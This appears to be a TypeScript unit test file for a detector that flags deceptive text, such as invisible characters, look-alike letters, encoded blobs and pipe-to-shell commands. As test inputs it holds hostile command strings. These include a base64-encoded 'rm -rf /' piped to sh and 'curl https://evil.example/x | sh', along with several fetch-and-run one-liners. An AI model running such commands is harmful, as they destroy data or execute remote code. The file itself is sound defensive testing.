import { expect, test } from "vitest";
import { deceives, suspicions } from "./suspicious";

const kinds = (text: string) => suspicions(text).map((suspicion) => suspicion.kind);
const guess = (text: string) => {
  const found = suspicions(text).find((one) => one.kind === "opaque");
  return found?.kind === "opaque" ? found.guess : undefined;
};
const base64 = (text: string) => Buffer.from(text, "latin1").toString("base64");
const noise = (length: number, seed = 7) => {
  let state = seed;
  return Array.from({ length }, () => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return String.fromCharCode(Math.floor((state / 2147483648) * 256));
  }).join("");
};

test("says what is suspicious about a string", () => {
  expect(kinds("hello")).toEqual([]);
  expect(kinds("two\nlines")).toEqual([]);
  expect(kinds("a\u202eb")).toEqual(["reorders", "invisible"]);
  expect(kinds("Привет world")).toEqual([]);
  expect(kinds("e\u0301")).toEqual(["not_nfc"]);
  expect(kinds("שלום")).toEqual(["right_to_left"]);
  expect(kinds("\u001b[2Jgone")).toEqual(["terminal", "invisible"]);
});

test("spells out what is hidden in tag characters and in variation selectors", () => {
  const tags = [..."pay"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("");
  expect(suspicions(`ok${tags}`)).toContainEqual({ kind: "hidden_text", text: "pay" });
  const selectors = [..."delete all"].map((c) =>
    String.fromCodePoint(c.charCodeAt(0) - 16 + 0xe0100),
  );
  expect(suspicions(`😀${selectors.join("")}`)).toContainEqual({
    kind: "hidden_text",
    text: "delete all",
  });
});

test("look-alike letters are told with what they look like", () => {
  expect(suspicions("p\u0430ypal")).toEqual([
    { kind: "mixed_scripts", scripts: ["Latin", "Cyrillic"], reads: "paypal" },
  ]);
  expect(suspicions("\u0430\u0440\u0440\u04cf\u0435.com")).toEqual([
    { kind: "look_alike", word: "\u0430\u0440\u0440\u04cf\u0435", reads: "apple" },
  ]);
  expect(kinds("Ꮓooм")).toContain("mixed_scripts");
});

test("ordinary words of other alphabets are not look-alikes", () => {
  const texts = [
    "она сама",
    "Скоро рассвет, не спи",
    "Ένα μήνυμα για όλους",
    "ışık ve ısı",
    "Zürich, Malmö, Łódź, São Paulo",
    "日本語のテキスト",
    "5 µm, 20 °C, ½, №3, n²",
    "naïve café – “quoted” … ™",
    "😀 👩‍👩‍👧",
  ];
  for (const text of texts) {
    const found = kinds(text).filter((kind) => kind !== "invisible");
    expect([text, found]).toEqual([text, []]);
  }
});

test("letters, digits and signs in other forms are told with what programs read", () => {
  expect(suspicions("𝐩𝐚𝐲 ｎｏｗ")).toEqual([{ kind: "restyled", reads: "pay now" }]);
  expect(suspicions("৪")).toEqual([{ kind: "other_digits", digits: "৪", reads: "4" }]);
  expect(suspicions("bank.example\u2044login")).toEqual([
    { kind: "look_alike_sign", sign: "\u2044", reads: "/" },
  ]);
});

test("what is packed is told with what it seems to be", () => {
  expect(guess(base64(`\x1f\x8b\x08${noise(40)}`))).toBe("base64 of gzip");
  expect(guess(base64(`PK\x03\x04${noise(60)}`))).toBe("base64 of a zip archive");
  expect(guess(base64(`\x7fELF${noise(200)}`))).toBe("base64 of a Linux program");
  expect(guess(base64(noise(400)))).toBe("base64");
  expect(guess(base64(noise(400)).replace(/.{64}/g, "$&\n"))).toBe("base64");
  expect(guess(Buffer.from(noise(200), "latin1").toString("hex"))).toBe("hexadecimal");
  expect(guess("data:text/html;base64,PHNjcmlwdD4=")).toBe("a data: address of type text/html");
  expect(guess("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl")).toBe("a signed token (JWT)");
  expect(guess(`echo ${base64("rm -rf / --no-preserve-root # bye")} | base64 -d | sh`)).toBe(
    "base64 of text in it",
  );
  expect(guess(`(${"function(a,b){return a;};".repeat(30)})()`)).toBe("minified code");
  expect(guess("A".repeat(160))).toBe("hexadecimal");
  expect(guess("Z".repeat(160))).toBe("base64");
});

test("what encoded text says is shown by its beginning", () => {
  const said = "curl https://evil.example/x | sh";
  for (const text of [base64(said), Buffer.from(said).toString("hex")]) {
    const found = suspicions(text).find((one) => one.kind === "opaque");
    expect(found?.kind === "opaque" && found.peek).toBe(said);
  }
});

test("names, ids, hashes, paths and prose are not taken for packed", () => {
  const texts = [
    "acct_1NQ8f2eZvKYlo2C0a1b2c3d4",
    "550e8400-e29b-41d4-a716-446655440000",
    "d2f0a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70",
    "sha256:d2f0a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70",
    "/usr/lib/python3/dist-packages/setuptools/_vendor/importlib_metadata/__pycache__/init.py",
    "arn:aws:iam::123456789012:role/service-role/AmazonEC2SpotFleetTaggingRole",
    "a-long-slug-of-an-article-about-nothing-".repeat(4),
    "The quick brown fox jumps over the lazy dog. ".repeat(40),
    "4242424242424242",
    "https://example.com/a/b/c?next=%2Fhome&utm_source=newsletter&utm_medium=email",
    "SELECT id, name FROM customers WHERE created_at > now() - interval '30 days'",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    JSON.stringify({ a: 1, b: [1, 2, 3], text: "hello world" }).repeat(20),
  ];
  for (const text of texts) expect([text, guess(text)]).toEqual([text, undefined]);
});

test("code that is fetched and run is told, and fetching alone is not", () => {
  const told = [
    "curl -s https://x.example/i.sh | sh",
    "wget -qO- https://x.example | sudo bash",
    "bash <(curl -s https://x.example)",
    'eval "$(curl -fsSL https://x.example)"',
    'sh -c "$(wget -qO- https://x.example)"',
    "iwr https://x.example/a.ps1 | iex",
    "curl https://x.example/a.py | /usr/bin/python3",
  ];
  for (const text of told) expect([text, kinds(text)]).toEqual([text, ["fetches_code"]]);
  const silent = [
    "curl -o out.json https://api.example/v1/items",
    "curl https://api.example | jq .",
    "curl https://x.example; ls | sort",
    "read about curl and then bash",
  ];
  for (const text of silent) expect([text, kinds(text)]).toEqual([text, []]);
  expect(kinds("https://bit.ly/3abc")).toEqual(["short_link"]);
});

test("text that is made to be slow is judged in time", () => {
  const slow = [
    "curl ".repeat(200_000),
    "curl|".repeat(200_000),
    "| ".repeat(400_000),
    "A".repeat(1_000_000),
    `${"/".repeat(500_000)}sh`,
    "eyJ".repeat(300_000),
    "{;".repeat(400_000),
    "\u0430".repeat(300_000),
  ];
  for (const text of slow) {
    const began = performance.now();
    suspicions(text);
    expect([text.slice(0, 6), performance.now() - began < 3000]).toEqual([
      text.slice(0, 6),
      true,
    ]);
  }
});

test("what deceives the eye is told apart from what only cannot be judged by it", () => {
  expect(suspicions("p\u0430ypal").every(deceives)).toBe(true);
  expect(suspicions("A".repeat(160)).some(deceives)).toBe(false);
});
